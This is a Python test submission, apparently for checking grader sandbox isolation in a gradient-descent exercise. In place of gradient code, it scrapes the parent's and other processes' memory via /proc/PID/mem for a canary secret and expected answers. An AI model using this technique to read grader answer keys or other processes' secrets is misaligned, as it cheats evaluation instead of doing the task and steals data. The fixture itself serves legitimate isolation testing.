"""Hostile: reads the grader's memory through ``/proc/$PPID/mem`` (and every visible process's).

The grader holds the expected values and its environment in memory; the submission reads the
writable mappings listed in ``/proc/PID/maps`` and prints what it found (the canary secret, case
JSON). It returns the stub: the values cannot be picked out reliably, the leak is the failure.
Reading a sandbox's own init process is no leak; only the secret or case JSON count.

Old grader: the worker (same user) reads its parent's memory; the secret shows in the report.
Sandboxed grader: the grader is in another PID namespace, invisible; the stub fails every case.
"""

import os
import re

import numpy as np

_SECRET = re.compile(rb"DESCENTLAB_CANARY_SECRET=([\w-]{8,80})")


def _snoop(pid, budget=256 << 20):
    found, read = [], 0
    try:
        with open(f"/proc/{pid}/maps") as maps:
            regions = [line.split() for line in maps]
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        return found, read
    with memory:
        for region in regions:
            start, end = (int(part, 16) for part in region[0].split("-"))
            if "rw" not in region[1] or end - start > (64 << 20) or read > budget:
                continue
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            read += len(chunk)
            found += [m.group(0).decode() for m in _SECRET.finditer(chunk)]
            if b'"expected"' in chunk:
                found.append("case JSON with expected values")
    return found, read


def _answer(weight):
    pids = [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]
    for pid in dict.fromkeys(pids):
        if pid == os.getpid():
            continue
        found, read = _snoop(pid)
        if found:
            print(f"HOSTILE-LEAK: process {pid}'s memory holds {sorted(set(found))[:4]}")
            break
        if read:
            print(f"read {read} bytes of process {pid}'s memory, nothing of interest")
    return np.array(weight, dtype=float, copy=True), 0.0


def gradient_step_onefeature(x, y, weight, lrate):
    return _answer(weight)


def gradient_step(X, y, weight, lrate):
    return _answer(weight)
